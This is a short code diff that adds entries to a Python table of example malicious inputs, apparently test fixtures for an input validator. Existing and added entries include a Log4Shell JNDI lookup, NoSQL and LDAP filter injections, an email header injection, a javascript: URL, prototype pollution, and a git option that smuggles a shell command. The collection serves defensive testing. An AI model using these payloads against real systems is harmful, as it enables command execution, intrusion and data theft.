@@ -226,6 +226,10 @@ EXAMPLES: dict[str, tuple[str, Leg]] = {
     "command.lookup": ("${${lower:j}ndi:ldap://a.example}", A),
     "command.operator": ('{"$ne": null}', A),
     "header.injected": ("a\r\nBcc: b@a.example", A),
+    "url.script_address": ("javascript:alert(1)", A),
+    "command.option": ("--upload-pack=touch /tmp/a", A),
+    "command.prototype": ("__proto__", A),
+    "sql.filter": ("*)(uid=*))(|(uid=*", A),
 }
 
 
